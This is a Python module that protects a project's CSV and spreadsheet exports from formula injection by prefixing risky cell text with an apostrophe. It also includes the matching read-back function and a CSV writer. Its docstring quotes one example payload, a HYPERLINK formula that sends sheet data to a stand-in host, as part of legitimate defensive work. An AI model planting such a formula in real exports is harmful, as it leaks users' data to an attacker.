"""Text in the cells of the spreadsheets Lintas writes, so that no spreadsheet runs it.

A CSV cell or a spreadsheet cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` sends the sheet's data away on a click).
OWASP's rule for CSV injection: such a text is written with a leading apostrophe, which
spreadsheets show as the start of a text. Numbers stay numbers (a negative number is a number,
not text).

``safe_cell`` and ``read_cell`` are inverses for every text: a text that already starts with
apostrophes before one of those characters gets one more, so reading takes exactly the one that
writing added. Plain Python, no Django: the network engine writes its tables with it too.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any, TypeVar, overload

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

T = TypeVar("T")


def _runs(text: str) -> bool:
    return text.lstrip(QUOTE).startswith(FORMULA_START)


@overload
def safe_cell(value: str) -> str: ...
@overload
def safe_cell(value: T) -> T: ...
def safe_cell(value: object) -> object:
    """The value as a cell holds it: a text a spreadsheet would run gets a leading apostrophe;
    anything else (numbers, dates, None, other text) is returned as it is."""
    if isinstance(value, str) and _runs(value):
        return QUOTE + value
    return value


@overload
def read_cell(value: str) -> str: ...
@overload
def read_cell(value: T) -> T: ...
def read_cell(value: object) -> object:
    """The value ``safe_cell`` was given, from what it wrote (text read back from a file)."""
    if isinstance(value, str) and value.startswith(QUOTE) and _runs(value[1:]):
        return value[1:]
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer.writerow``: each value through ``safe_cell``."""
    return [safe_cell(value) for value in values]


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file as Lintas writes them all: every cell through ``safe_cell``, UTF-8 with a
    byte-order mark (without it Excel reads the file in the machine's code page and breaks every
    accented letter)."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(safe_row(row))
    return buffer.getvalue().encode("utf-8")
